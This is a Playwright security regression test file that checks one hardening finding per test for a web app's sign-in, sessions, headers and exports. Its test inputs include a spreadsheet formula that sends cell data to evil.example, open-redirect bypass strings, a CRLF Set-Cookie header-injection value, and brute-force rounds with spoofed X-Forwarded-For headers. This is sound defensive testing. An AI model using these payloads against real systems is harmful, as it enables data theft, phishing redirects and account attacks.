// Issue 18: sign-in and session hardening, and the bad inputs that used to reach a 500. Each
// test names the finding it covers. The server runs with the default sign-in limits (5 attempts
// per account) and no trusted proxies, so a client's X-Forwarded-For is never believed.
import { execFileSync } from 'node:child_process';
import Database from 'better-sqlite3';
import { expect, test, type Page } from '@playwright/test';
import { signIn, USERS } from './fixtures/auth.ts';
import { calibrationFixture } from './fixtures/calibration-seed.ts';
import { e2eFixture } from './fixtures/data.ts';
import { E2E_DATABASE_URL, REPO_ROOT } from './paths.ts';
import { SQLITE_BUSY_MS, UNBUDGETED_STEP_MS } from '../test/budgets.ts';
import { pageWaitsLimitMs, SIGN_IN_PAGE_WAITS } from './budgets.ts';

const ACCOUNT_LIMIT = 5;
const WRONG_PASSWORD_ROUNDS = 30;
const PASSWORD = 'e2e security target password';

function envolve(...args: string[]): string {
  return execFileSync('node', ['bin/envolve.mjs', ...args], { cwd: REPO_ROOT, env: { ...process.env, DATABASE_URL: E2E_DATABASE_URL }, encoding: 'utf8' });
}

function newAccount(tag: string, role = 'reviewer'): string {
  const email = `${tag}-${Date.now()}-${Math.floor(Math.random() * 1e6)}@e2e.envolve.test`;
  envolve('users', 'create', '--email', email, '--name', `Target ${tag}`, '--role', role, '--password', PASSWORD);
  return email;
}

function query<T>(sql: string, ...params: unknown[]): T[] {
  const db = new Database(E2E_DATABASE_URL.replace(/^file:/, ''), { readonly: true, timeout: SQLITE_BUSY_MS });
  try {
    return db.prepare(sql).all(...params) as T[];
  } finally {
    db.close();
  }
}

async function formSignIn(page: Page, email: string, password: string): Promise<void> {
  await page.getByLabel('Email').fill(email);
  await page.getByLabel('Password').fill(password);
  await page.getByRole('button', { name: 'Sign in' }).click();
}

const alertText = (page: Page) => page.getByRole('alert').filter({ hasText: /\S/ });

// Finding 6's pages: every dashboard page, on the e2e fixture's rows.
const CSP_PAGES: ((fixture: ReturnType<typeof e2eFixture>) => string)[] = [
  () => '/environments',
  (f) => `/environments/${f.seedVersionId}`,
  () => '/lineages',
  (f) => `/lineages/${f.lineageId}`,
  (f) => `/generations/${f.generationIds[0]}`,
  () => '/review',
  () => '/trajectories',
  () => '/drift',
  () => '/calibration',
  () => '/rubric',
  () => '/missed-issues',
  () => '/audit',
  () => '/admin/users',
];

test('finding 1: 30 wrong passwords through the sign-in form are stopped after the limit, rotated X-Forwarded-For or not', async ({ page }) => {
  // The account's CLI process (a process start), the sign-in page, two page waits a round (the alert,
  // the fresh sign-in page), and the last round with the right password.
  test.setTimeout(pageWaitsLimitMs(1 + 2 * WRONG_PASSWORD_ROUNDS + 1, UNBUDGETED_STEP_MS));
  const email = newAccount('form');
  await page.goto('/sign-in');
  const messages: string[] = [];
  for (let attempt = 0; attempt < WRONG_PASSWORD_ROUNDS; attempt++) {
    await page.setExtraHTTPHeaders({ 'x-forwarded-for': `198.51.100.${attempt}` });
    await formSignIn(page, email, `wrong password number ${attempt}`);
    await expect(alertText(page)).toHaveText(/Wrong email or password|Too many sign-in attempts/);
    messages.push((await alertText(page).textContent()) ?? '');
    // The next attempt must not read this one's message.
    await page.goto('/sign-in');
  }
  expect(messages.slice(0, ACCOUNT_LIMIT).every((m) => m === 'Wrong email or password.')).toBe(true);
  expect(messages.slice(ACCOUNT_LIMIT).every((m) => /^Too many sign-in attempts\. Try again in \d+ s\.$/.test(m))).toBe(true);

  // Locked means locked: the right password is refused too, and the lockout is audited.
  await formSignIn(page, email, PASSWORD);
  await expect(alertText(page)).toContainText('Too many sign-in attempts');
  // The audit entry names the account by id (never by the text that was typed).
  const [user] = query<{ id: string }>('SELECT "id" FROM "User" WHERE "email" = ?', email);
  expect(query('SELECT 1 FROM "AuditEvent" WHERE "action" = ? AND "subjectId" = ?', 'auth.sign-in-throttled', user!.id)).toHaveLength(1);
  expect(new URL(page.url()).pathname).toBe('/sign-in');
});

test('finding 2: 30 wrong passwords through the API get 429 after the limit, with a fresh X-Forwarded-For each; the spoofed address is not stored', async ({
  playwright,
  baseURL,
}) => {
  // Two accounts' CLI processes (process starts), a request a round, then the right password, the other
  // account's sign-in and its session: each request a page wait.
  test.setTimeout(pageWaitsLimitMs(WRONG_PASSWORD_ROUNDS + 3, 2 * UNBUDGETED_STEP_MS));
  const email = newAccount('api');
  const api = await playwright.request.newContext({ baseURL, extraHTTPHeaders: { origin: baseURL! } });
  const statuses: number[] = [];
  for (let attempt = 0; attempt < WRONG_PASSWORD_ROUNDS; attempt++) {
    const response = await api.post('/api/auth/sign-in/email', {
      data: { email, password: `wrong ${attempt}` },
      headers: { 'x-forwarded-for': `203.0.113.${attempt}` },
    });
    statuses.push(response.status());
    if (response.status() === 429) {
      expect(Number(response.headers()['retry-after'])).toBeGreaterThan(0);
      expect(await response.json()).toMatchObject({ error: 'too_many_attempts', message: expect.stringMatching(/Try again in \d+ s/) });
    }
  }
  expect(statuses.slice(0, ACCOUNT_LIMIT)).toEqual(Array(ACCOUNT_LIMIT).fill(401));
  expect(statuses.slice(ACCOUNT_LIMIT)).toEqual(Array(WRONG_PASSWORD_ROUNDS - ACCOUNT_LIMIT).fill(429));
  expect((await api.post('/api/auth/sign-in/email', { data: { email, password: PASSWORD } })).status()).toBe(429);

  // Another account signs in with a forged X-Forwarded-For: the session keeps the real peer,
  // and the response body carries no session token (finding 10).
  const other = newAccount('api-ok');
  const ok = await api.post('/api/auth/sign-in/email', { data: { email: other, password: PASSWORD }, headers: { 'x-forwarded-for': '6.6.6.6' } });
  expect(ok.status()).toBe(200);
  const body = (await ok.json()) as Record<string, unknown>;
  expect(body).not.toHaveProperty('token');
  expect(body).toMatchObject({ user: { email: other } });
  const sessions = query<{ ipAddress: string | null }>('SELECT s."ipAddress" FROM "Session" s JOIN "User" u ON u."id" = s."userId" WHERE u."email" = ?', other);
  expect(sessions.map((s) => s.ipAddress)).toEqual(['127.0.0.1']);
  const session = (await (await api.get('/api/auth/get-session')).json()) as { session: Record<string, unknown> };
  expect(session.session).not.toHaveProperty('token');
  await api.dispose();
});

test('finding 3: a next= that leaves the site, by tab, newline or backslash, lands on this site', async ({ page, baseURL }) => {
  const origin = new URL(baseURL!).origin;
  for (const next of ['%2F%09%2Fevil.example', '%2F%0A%2Fevil.example', '%2F%5Cevil.example', '%2F%2Fevil.example']) {
    await signIn(page, 'reviewer', '/environments');
    const response = await page.goto(`/sign-in?next=${next}`);
    expect(response?.status()).toBe(200);
    expect(new URL(page.url()).origin).toBe(origin);
    // The home page: / no longer redirects to /environments.
    expect(new URL(page.url()).pathname).toBe('/');
  }
  // And through the form, signing in with such a next.
  await page.context().clearCookies();
  await page.goto('/sign-in?next=%2F%09%2Fevil.example');
  await formSignIn(page, USERS.reviewer.email, USERS.reviewer.password);
  await expect(page.getByTestId('signed-in-user')).toBeVisible();
  expect(new URL(page.url()).origin).toBe(origin);
});

test('finding 4: a reset by `envolve users set-password` ends every session of the account', async ({ browser }) => {
  const email = newAccount('reset');
  const contexts = await Promise.all([browser.newContext(), browser.newContext()]);
  const pages = await Promise.all(contexts.map((c) => c.newPage()));
  for (const page of pages) {
    await page.goto('/sign-in?next=%2Fenvironments');
    await formSignIn(page, email, PASSWORD);
    await expect(page.getByRole('heading', { level: 1, name: 'Environments' })).toBeVisible();
  }
  envolve('users', 'set-password', '--email', email, '--password', 'e2e security second password');
  for (const page of pages) {
    await page.goto('/environments');
    await expect(page).toHaveURL(/\/sign-in/);
  }
  await Promise.all(contexts.map((c) => c.close()));
});

test('finding 5: the trainer API refuses rewards for a flagged version and rewards outside 0–1', async ({ request }) => {
  const token = (JSON.parse(envolve('tokens', 'create', '--user', USERS.trainer.email, '--name', 'e2e security', '--json')) as { token: string }).token;
  const headers = { authorization: `Bearer ${token}` };
  const versionId = e2eFixture().examples['payments-reconciliation']!;
  const outOfRange = await request.post('/api/v1/trainer/groups', { headers, data: { versionId, rewards: [1.5, 1, 1, 1] } });
  expect(outOfRange.status()).toBe(422);
  expect(await outOfRange.json()).toMatchObject({ error: 'reward_out_of_range' });

  const db = new Database(E2E_DATABASE_URL.replace(/^file:/, ''), { timeout: SQLITE_BUSY_MS });
  db.prepare('UPDATE "EnvironmentVersion" SET "compromisedAt" = ?, "compromisedReason" = ? WHERE "id" = ?').run(Date.now(), 'e2e: reward hack', versionId);
  db.close();
  const flagged = await request.post('/api/v1/trainer/groups', { headers, data: { versionId, rewards: [1, 1, 1, 1, 1, 1, 1, 1] } });
  expect(flagged.status()).toBe(403);
  expect(await flagged.json()).toMatchObject({ error: 'flagged' });
  expect(query('SELECT 1 FROM "ProbeGroup" WHERE "versionId" = ? AND "purpose" = ?', versionId, 'trainer')).toHaveLength(0);
});

test('finding 6: security headers on pages, JSON and static files', async ({ page, request }) => {
  const pageResponse = await page.goto('/sign-in');
  const pageHeaders = pageResponse!.headers();
  expect(pageHeaders['content-security-policy']).toMatch(/script-src 'self' 'nonce-[^']+' 'strict-dynamic'/);
  expect(pageHeaders['content-security-policy']).toContain("frame-ancestors 'none'");
  for (const response of [pageResponse!, await request.get('/api/health'), await request.get('/icon.svg'), await request.get('/api/users')]) {
    const headers = response.headers();
    expect(headers['x-content-type-options'], response.url()).toBe('nosniff');
    expect(headers['x-frame-options'], response.url()).toBe('DENY');
    expect(headers['referrer-policy'], response.url()).toBe('same-origin');
    expect(headers['content-security-policy'], response.url()).toContain("frame-ancestors 'none'");
  }
});

test('finding 6: every dashboard page satisfies its CSP in Chromium (no violations in the console)', async ({ page }) => {
  // Signing in, two page waits a page (its load, its requests settling), then a page, a click and its heading.
  test.setTimeout(pageWaitsLimitMs(SIGN_IN_PAGE_WAITS + 2 * CSP_PAGES.length + 2));
  const violations: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy|Refused to/i.test(message.text())) violations.push(`${page.url()}: ${message.text()}`);
  });
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => console.error(`Refused to ${e.violatedDirective}: ${e.blockedURI}`));
  });
  const fixture = e2eFixture();
  await signIn(page, 'admin', '/environments');
  const pages = CSP_PAGES.map((path) => path(fixture));
  for (const path of pages) {
    const response = await page.goto(path);
    expect(response?.status(), path).toBeLessThan(400);
    await page.waitForLoadState('networkidle');
  }
  // Client-side navigation and interaction run scripts loaded after the first page.
  await page.goto('/lineages');
  await page
    .getByRole('link', { name: /Environments/ })
    .first()
    .click();
  await expect(page.getByRole('heading', { level: 1, name: 'Environments' })).toBeVisible();
  expect(violations).toEqual([]);
});

test("finding 7: an annotator's =HYPERLINK note is exported as text, not a live formula", async ({ playwright, baseURL }) => {
  const annotator = newAccount('csv', 'annotator');
  const set = JSON.parse(
    envolve(
      'calibration',
      'create',
      '--versions',
      calibrationFixture().versionId,
      '--size',
      '2',
      '--seed',
      '3',
      '--annotators',
      annotator,
      '--name',
      'CSV formula check',
      '--json',
    ),
  ) as { id: string };
  const api = await playwright.request.newContext({ baseURL, extraHTTPHeaders: { origin: baseURL! } });
  expect((await api.post('/api/auth/sign-in/email', { data: { email: annotator, password: PASSWORD } })).status()).toBe(200);
  const queue = (await (await api.post(`/api/calibration/sets/${set.id}/queue`)).json()) as { current: string };
  const note = '=HYPERLINK("http://evil.example/?"&A1,"details")';
  const labelled = await api.post(`/api/calibration/sets/${set.id}/items/${queue.current}/label`, { data: { answer: 'pass', note } });
  expect(labelled.status()).toBe(200);
  await api.dispose();

  const lead = await playwright.request.newContext({ baseURL, extraHTTPHeaders: { origin: baseURL! } });
  expect((await lead.post('/api/auth/sign-in/email', { data: { email: USERS.lead.email, password: USERS.lead.password } })).status()).toBe(200);
  const csv = await (await lead.get(`/api/calibration/sets/${set.id}/export?what=labels&format=csv`)).text();
  expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""details"")"`);
  expect(csv).not.toMatch(/,"=HYPERLINK/);
  await lead.dispose();
});

test('finding 8: malformed paths, a CR/LF in next=, an oversized action body and an unknown user are 4xx, not 500', async ({ page, playwright, baseURL }) => {
  const anonymous = await playwright.request.newContext({ baseURL });
  for (const path of ['/api/generations/%ZZ/comments', '/api/generations/%C3%28/comments', '/generations/%ZZ']) {
    const response = await anonymous.get(path);
    expect(response.status(), path).toBe(400);
    expect(await response.json()).toMatchObject({ error: 'bad_path' });
  }
  const crlf = await anonymous.get('/sign-in?next=%2Fx%0D%0ASet-Cookie%3A%20a%3Db');
  expect(crlf.status()).toBe(200);
  const oversized = await anonymous.post('/sign-in', {
    headers: { 'next-action': 'x', origin: baseURL!, 'content-type': 'text/plain' },
    data: 'x'.repeat(1024 * 1024 + 10),
  });
  expect(oversized.status()).toBe(413);
  await anonymous.dispose();

  // A role change for an account that no longer exists says so.
  await signIn(page, 'admin', '/admin/users');
  const row = page.getByTestId('user-row').filter({ hasText: USERS.annotator.email });
  await row
    .locator('input[name=userId]')
    .first()
    .evaluate((input) => ((input as HTMLInputElement).value = 'no-such-user'));
  await row.getByRole('button', { name: 'Change role' }).click();
  await expect(row.getByRole('alert')).toHaveText('That account no longer exists.');
});

test('finding 9: a viewed mark for a generation that does not exist is a 404 and writes no audit entry', async ({ page, baseURL }) => {
  await signIn(page, 'reviewer');
  const response = await page.request.put('/api/generations/nosuchgeneration/viewed', {
    headers: { origin: baseURL! },
    data: { path: 'a.txt', contentSha256: '0'.repeat(64), viewed: true },
  });
  expect(response.status()).toBe(404);
  expect(query('SELECT 1 FROM "AuditEvent" WHERE "subjectId" = ?', 'nosuchgeneration')).toHaveLength(0);
});

test('finding 10: a weak password is refused, search is literal, the Origin check compares the scheme, the database file is private', async ({
  page,
  baseURL,
}) => {
  expect(() =>
    envolve('users', 'create', '--email', `weak-${Date.now()}@e2e.envolve.test`, '--name', 'Weak', '--role', 'reviewer', '--password', 'password1234'),
  ).toThrow(/too easy to guess/);

  await signIn(page, 'reviewer');
  const all = (await (await page.request.get('/api/environments')).json()) as { environments: unknown[] };
  expect(all.environments.length).toBeGreaterThan(0);
  expect(((await (await page.request.get('/api/environments?q=%25')).json()) as { environments: unknown[] }).environments).toEqual([]);
  expect(((await (await page.request.get('/api/environments?q=_')).json()) as { environments: unknown[] }).environments).toEqual([]);
  expect((await page.request.get('/api/environments?q=a%00')).status()).toBe(400);

  const https = baseURL!.replace('http://', 'https://');
  const viewed = (origin: string) =>
    page.request.put(`/api/generations/${e2eFixture().generationIds[0]}/viewed`, {
      headers: { origin },
      data: { path: 'a.txt', contentSha256: '0'.repeat(64), viewed: false },
    });
  expect((await viewed(https)).status()).toBe(403);
  expect(
    (
      await page.request.put(`/api/generations/${e2eFixture().generationIds[0]}/viewed`, {
        headers: { origin: 'https://evil.example', 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https' },
        data: { path: 'a.txt', contentSha256: '0'.repeat(64), viewed: false },
      })
    ).status(),
  ).toBe(403);
  expect((await viewed(baseURL!)).status()).toBe(200);

  const { statSync } = await import('node:fs');
  expect(statSync(E2E_DATABASE_URL.replace(/^file:/, '')).mode & 0o777).toBe(0o600);
});

test('an admin deactivates an account: its session ends, it cannot sign in, and the audit log shows it', async ({ page, browser }) => {
  const email = newAccount('leaver');
  const leaverContext = await browser.newContext();
  const leaver = await leaverContext.newPage();
  await leaver.goto('/sign-in?next=%2Fenvironments');
  await formSignIn(leaver, email, PASSWORD);
  await expect(leaver.getByRole('heading', { level: 1, name: 'Environments' })).toBeVisible();

  await signIn(page, 'admin', '/admin/users');
  const row = page.getByTestId('user-row').filter({ hasText: email });
  await row.getByRole('button', { name: `Deactivate ${email}` }).click();
  await expect(row.getByRole('status')).toHaveText(`${email} is deactivated`);
  await expect(row.getByRole('button', { name: `Reactivate ${email}` })).toBeVisible();

  await leaver.goto('/environments');
  await expect(leaver).toHaveURL(/\/sign-in/);
  // With the right password the owner is told why, so as not to retry into a lockout; a wrong one gets the unknown account's answer.
  await formSignIn(leaver, email, PASSWORD);
  await expect(alertText(leaver)).toHaveText('This account is deactivated; ask an admin to reactivate it.');
  await formSignIn(leaver, email, `${PASSWORD} wrong`);
  await expect(alertText(leaver)).toHaveText('Wrong email or password.');
  await leaverContext.close();

  await page.goto('/audit?subjectType=user');
  await expect(page.getByTestId('audit-row').filter({ hasText: 'user.deactivate' }).filter({ hasText: email })).toHaveCount(1);
});

test('an admin resets a password: confirmed, the new one is shown once, the old one stops working, audited', async ({ page, browser }) => {
  const email = newAccount('forgetful');
  await signIn(page, 'admin', '/admin/users');
  const row = page.getByTestId('user-row').filter({ hasText: email });
  let asked = '';
  page.once('dialog', (dialog) => {
    asked = dialog.message();
    void dialog.accept();
  });
  await row.getByRole('button', { name: `Reset the password of ${email}` }).click();
  const shown = row.getByTestId('reset-password');
  await expect(shown).toContainText(`New password for ${email}`);
  expect(asked).toContain('signed out everywhere');
  const password = (await shown.locator('code').textContent()) ?? '';
  expect(password.length).toBeGreaterThan(10);

  const context = await browser.newContext();
  const person = await context.newPage();
  await person.goto('/sign-in?next=%2F');
  await formSignIn(person, email, PASSWORD);
  await expect(alertText(person)).toHaveText('Wrong email or password.');
  await formSignIn(person, email, password);
  await expect(person.getByTestId('signed-in-user')).toBeVisible();
  await context.close();

  await page.goto('/audit?subjectType=user&action=user.reset-password');
  await expect(page.getByTestId('audit-row').filter({ hasText: `reset the password of ${email}` })).toHaveCount(1);
});
